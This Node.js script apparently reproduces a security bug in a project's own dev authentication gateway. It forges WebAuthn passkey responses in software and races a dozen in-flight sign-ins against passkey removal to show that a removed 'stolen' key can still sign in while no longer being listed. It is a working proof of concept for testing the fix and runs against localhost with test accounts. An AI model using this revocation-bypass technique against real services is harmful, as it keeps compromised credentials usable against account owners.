// Reproduction against a running dev gateway (npm start), plain Node 22+ (fetch), no test harness:
//   PORT=4600 LOCAL_COGNITO_PORT=9600 LOCAL_COGNITO_DIR=/tmp/attack-cognito LOCAL_COGNITO_CODE=123456 \
//   WEBAUTHN_ORIGINS=http://localhost:4000 AUDIT_LOG_FILE=/tmp/attack-audit.jsonl LOCKOUT_THRESHOLD=50 npm start
// (the removal's step-up passes the lockout while twelve sign-ins hold slots: the threshold is raised above them)
//   node test/attack/scripts/revocation-race.mjs http://127.0.0.1:4600/graphql
// A passkey removed with removePasskey (answer: true) while sign-ins with it are in flight signs in again afterwards,
// and no longer appears in `passkeys`.
import { createHash, generateKeyPairSync, randomBytes, randomUUID, sign } from "node:crypto";
import { isoCBOR } from "@simplewebauthn/server/helpers";
import { authenticator as otp } from "otplib";

const url = process.argv[2] ?? "http://127.0.0.1:4600/graphql";
const origin = process.env.ORIGIN ?? "http://localhost:4000";
const PASSWORD = "Correct-Horse-Battery-9";
const gql = async (query, variables = {}, token) => {
  const r = await fetch(url, { method: "POST", headers: { "content-type": "application/json", ...(token ? { authorization: `Bearer ${token}` } : {}) }, body: JSON.stringify({ query, variables }) });
  return r.json();
};
const data = (r) => {
  if (r.errors?.length) throw new Error(JSON.stringify(r.errors));
  return r.data;
};
const b64 = (b) => Buffer.from(b).toString("base64url");
const sha = (d) => createHash("sha256").update(d).digest();

class Key {
  constructor() {
    this.cred = randomBytes(16);
    this.keys = generateKeyPairSync("ec", { namedCurve: "P-256" });
    this.counter = 0;
  }
  get id() { return b64(this.cred); }
  authData(rpId, attested) {
    const c = Buffer.alloc(4); c.writeUInt32BE(this.counter);
    const parts = [sha(rpId), Buffer.from([0x01 | 0x04 | (attested ? 0x40 : 0)]), c];
    if (attested) {
      const jwk = this.keys.publicKey.export({ format: "jwk" });
      const cose = new Map([[1, 2], [3, -7], [-1, 1], [-2, Buffer.from(jwk.x, "base64url")], [-3, Buffer.from(jwk.y, "base64url")]]);
      const len = Buffer.alloc(2); len.writeUInt16BE(this.cred.length);
      parts.push(Buffer.alloc(16), len, this.cred, Buffer.from(isoCBOR.encode(cose)));
    }
    return Buffer.concat(parts);
  }
  register(json) {
    const o = JSON.parse(json);
    const att = new Map([["fmt", "none"], ["attStmt", new Map()], ["authData", this.authData(o.rp.id, true)]]);
    const cd = Buffer.from(JSON.stringify({ type: "webauthn.create", challenge: o.challenge, origin, crossOrigin: false }));
    return JSON.stringify({ id: this.id, rawId: this.id, type: "public-key", response: { clientDataJSON: b64(cd), attestationObject: b64(isoCBOR.encode(att)), transports: ["internal"] }, clientExtensionResults: {} });
  }
  assert(json) {
    const o = JSON.parse(json);
    this.counter += 1;
    const ad = this.authData(o.rpId, false);
    const cd = Buffer.from(JSON.stringify({ type: "webauthn.get", challenge: o.challenge, origin, crossOrigin: false }));
    const sig = sign("sha256", Buffer.concat([ad, sha(cd)]), this.keys.privateKey);
    return JSON.stringify({ id: this.id, rawId: this.id, type: "public-key", response: { clientDataJSON: b64(cd), authenticatorData: b64(ad), signature: b64(sig) }, clientExtensionResults: {} });
  }
}

const email = `race-${randomUUID()}@example.test`;
data(await gql(`mutation($i: RegisterInput!) { register(input: $i) { accepted } }`, { i: { email, password: PASSWORD } }));
data(await gql(`mutation($e: String!) { confirmSignUp(email: $e, code: "123456") }`, { e: email }));
const login = data(await gql(`mutation($e: String!, $p: String!) { login(email: $e, password: $p) { challenge { session } } }`, { e: email, p: PASSWORD })).login;
const setup = data(await gql(`mutation($s: String!) { beginMfaSetup(session: $s) { secret session } }`, { s: login.challenge.session })).beginMfaSetup;
const tokens = data(await gql(`mutation($s: String!, $c: String!) { completeMfaSetup(session: $s, code: $c) { tokens { accessToken } } }`, { s: setup.session, c: otp.generate(setup.secret) })).completeMfaSetup.tokens;
const token = tokens.accessToken;

// Every change of sign-in methods proves a fresh factor in its request: an anchor passkey (registered with a TOTP
// code of the next step, the enrolment code being spent) answers the step-ups of every round.
const stepUp = async (anchor) => ({ passkey: anchor.assert(data(await gql(`mutation { beginPasskeyStepUp }`, {}, token)).beginPasskeyStepUp) });
const anchor = new Key();
const anchorCreation = data(await gql(`mutation($c: String) { beginPasskeyRegistration(code: $c) }`, { c: otp.clone({ epoch: Date.now() + 30_000 }).generate(setup.secret) }, token)).beginPasskeyRegistration;
data(await gql(`mutation($r: String!) { completePasskeyRegistration(response: $r, nickname: "anchor") { id } }`, { r: anchor.register(anchorCreation) }, token));

const beginLogin = async () => data(await gql(`mutation { beginPasskeyLogin { options session } }`)).beginPasskeyLogin;
const completeLogin = (session, response) => gql(`mutation($s: String!, $r: String!) { completePasskeyLogin(session: $s, response: $r) { tokens { accessToken } } }`, { s: session, r: response });

for (let round = 1; round <= 10; round++) {
  const key = new Key();
  const creation = data(await gql(`mutation($passkey: String) { beginPasskeyRegistration(passkey: $passkey) }`, await stepUp(anchor), token)).beginPasskeyRegistration;
  data(await gql(`mutation($r: String!) { completePasskeyRegistration(response: $r, nickname: "stolen") { id } }`, { r: key.register(creation) }, token));
  const begun = await Promise.all(Array.from({ length: 12 }, beginLogin));
  const answers = begun.map((b) => [b.session, key.assert(b.options)]);
  const inFlight = answers.map(([s, r]) => completeLogin(s, r));
  const removed = data(await gql(`mutation($id: String!, $passkey: String) { removePasskey(id: $id, passkey: $passkey) }`, { id: key.id, ...(await stepUp(anchor)) }, token)).removePasskey;
  await Promise.all(inFlight);
  const listed = data(await gql(`{ passkeys { id } }`, {}, token)).passkeys.map((p) => p.id);
  const b = await beginLogin();
  const after = await completeLogin(b.session, key.assert(b.options));
  const signedIn = Boolean(after.data?.completePasskeyLogin?.tokens?.accessToken);
  console.log(JSON.stringify({ round, removePasskey: removed, listedAfterRemoval: listed.includes(key.id), signsInAfterRemoval: signedIn, errors: after.errors?.map((e) => e.extensions.code) }));
  if (signedIn) {
    console.log("REPRODUCED: a removed passkey signs in again (and is not listed).");
    process.exit(1);
  }
}
console.log("not reproduced in 10 rounds");
